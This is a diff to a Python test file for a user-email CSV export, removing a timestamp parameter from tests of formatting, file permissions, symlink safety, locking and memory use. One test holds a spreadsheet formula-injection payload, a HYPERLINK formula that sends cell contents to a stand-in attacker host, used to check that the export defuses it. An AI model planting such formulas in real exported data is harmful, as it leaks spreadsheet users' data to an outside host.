@@ -17,7 +17,6 @@ from packages.domain.maintenance.errors import ExportAlreadyRunningError, Output
 from packages.domain.maintenance.output_files import create_partial, partial_path, try_lock
 from packages.domain.maintenance.user_emails_export import export_user_emails_csv
 
-NOW = dt.datetime(2026, 11, 20, 12, 0, tzinfo=dt.UTC)
 CREATED_AT = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
 MANY_USERS = 200_000
 # Streamed, the growth is less than 1 MiB; with all rows loaded at once it is some 34 MiB.
@@ -25,7 +24,7 @@ ALLOWED_GROWTH_BYTES = 8 * 1024 * 1024
 
 # In a process of its own: the peak of a process never falls, and the test's own has seen other tests.
 MEASURE = """\
-    import datetime as dt, os, resource, sys
+    import os, resource, sys
     from pathlib import Path
     import sqlalchemy as sa
     from packages.domain.maintenance.user_emails_export import export_user_emails_csv
@@ -34,7 +33,7 @@ MEASURE = """\
             return 1024 * int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0])
         return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
     def export():
-        return export_user_emails_csv(engine, directory=Path(sys.argv[1]), now=dt.datetime.now(dt.UTC)).rows
+        return export_user_emails_csv(engine, directory=Path(sys.argv[1])).rows
     engine = sa.create_engine(os.environ["TEST_URL"])
     insert = sa.text(
         "INSERT INTO users (email, display_name, is_active)"
@@ -66,7 +65,7 @@ def test_the_file_is_rfc_4180_in_utf_8(engine: sa.Engine, directory: Path) -> No
     _add_user(engine, "ada@example.com", "Ada, of Lovelace")
     _add_user(engine, "zoë@example.com", 'Zoë "Z"\nNeil', is_active=False)
 
-    result = export_user_emails_csv(engine, directory=directory, now=NOW)
+    result = export_user_emails_csv(engine, directory=directory)
 
     assert result.path.read_bytes().decode("utf-8") == (
         '"id","email","display_name","is_active","created_at"\r\n'
@@ -74,12 +73,12 @@ def test_the_file_is_rfc_4180_in_utf_8(engine: sa.Engine, directory: Path) -> No
         '"2","zoë@example.com","Zoë ""Z""\nNeil","false","2026-01-02T03:04:05+00:00"\r\n'
     )
     assert (result.path, result.rows) == (directory / "user_emails.csv", 2)
-    assert (result.bytes, result.exported_at) == (result.path.stat().st_size, NOW)
+    assert result.bytes == result.path.stat().st_size
     assert result.seconds > 0
 
 
 def test_no_users_give_the_header_alone(engine: sa.Engine, directory: Path) -> None:
-    result = export_user_emails_csv(engine, directory=directory, now=NOW)
+    result = export_user_emails_csv(engine, directory=directory)
     assert result.rows == 0
     assert result.path.read_text().count("\n") == 1
 
@@ -87,7 +86,7 @@ def test_no_users_give_the_header_alone(engine: sa.Engine, directory: Path) -> N
 def test_a_formula_in_a_users_name_or_address_is_defused(engine: sa.Engine, directory: Path) -> None:
     _add_user(engine, "+ada@example.com", '=HYPERLINK("http://evil.example?x="&A1,"click")')
 
-    path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+    path = export_user_emails_csv(engine, directory=directory).path
 
     with path.open(newline="", encoding="utf-8") as file:
         record = list(csv.reader(file))[1]
@@ -102,7 +101,7 @@ def test_the_file_is_private_whatever_the_umask_and_the_former_file(engine: sa.E
     former.chmod(0o644)
     umask = os.umask(0)
     try:
-        path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+        path = export_user_emails_csv(engine, directory=directory).path
     finally:
         os.umask(umask)
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
@@ -119,22 +118,22 @@ def test_a_partial_file_is_private_from_its_first_byte(tmp_path: Path) -> None:
 
 def test_a_reader_of_the_former_file_goes_on_reading_it(engine: sa.Engine, directory: Path) -> None:
     _add_user(engine, "ada@example.com", "Ada")
-    path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+    path = export_user_emails_csv(engine, directory=directory).path
     before = path.read_text()
     with path.open(newline="") as reader:
         _add_user(engine, "bob@example.com", "Bob")
-        export_user_emails_csv(engine, directory=directory, now=NOW)
+        export_user_emails_csv(engine, directory=directory)
         assert reader.read().replace("\r", "") == before.replace("\r", "")
     assert "bob@example.com" in path.read_text()
 
 
 def test_the_former_file_stays_when_the_export_fails(engine: sa.Engine, database_url: str, directory: Path) -> None:
-    path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+    path = export_user_emails_csv(engine, directory=directory).path
     before = path.read_bytes()
     without_tables = sa.create_engine(database_url, poolclass=sa.NullPool)
 
     with pytest.raises(ProgrammingError, match="users"):
-        export_user_emails_csv(without_tables, directory=directory, now=NOW)
+        export_user_emails_csv(without_tables, directory=directory)
 
     assert path.read_bytes() == before
     assert {file.name for file in directory.iterdir()} == {"user_emails.csv", ".user_emails.lock"}
@@ -143,7 +142,7 @@ def test_the_former_file_stays_when_the_export_fails(engine: sa.Engine, database
 def test_what_a_killed_run_left_is_replaced(engine: sa.Engine, directory: Path) -> None:
     directory.mkdir()
     partial_path(directory / "user_emails.csv").write_text("half of a file")
-    path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+    path = export_user_emails_csv(engine, directory=directory).path
     assert path.read_text().startswith('"id"')
     assert not partial_path(path).exists()
 
@@ -157,7 +156,7 @@ def test_a_link_in_place_of_the_file_is_replaced_and_its_target_is_not_written(
     (directory / "user_emails.csv").symlink_to(target)
     partial_path(directory / "user_emails.csv").symlink_to(target)
 
-    path = export_user_emails_csv(engine, directory=directory, now=NOW).path
+    path = export_user_emails_csv(engine, directory=directory).path
 
     assert not path.is_symlink()
     assert target.read_text() == "untouched"
@@ -168,13 +167,13 @@ def test_a_second_export_at_the_same_time_is_refused(engine: sa.Engine, director
     with try_lock(directory / ".user_emails.lock") as lock:
         assert lock is not None
         with pytest.raises(ExportAlreadyRunningError, match="user_emails"):
-            export_user_emails_csv(engine, directory=directory, now=NOW)
-    export_user_emails_csv(engine, directory=directory, now=NOW)
+            export_user_emails_csv(engine, directory=directory)
+    export_user_emails_csv(engine, directory=directory)
 
 
 def test_a_relative_directory_is_refused(engine: sa.Engine) -> None:
     with pytest.raises(OutputPathError, match="it is a relative path"):
-        export_user_emails_csv(engine, directory=Path("exports"), now=NOW)
+        export_user_emails_csv(engine, directory=Path("exports"))
 
 
 def test_memory_does_not_grow_with_the_number_of_users(url: str, directory: Path) -> None:
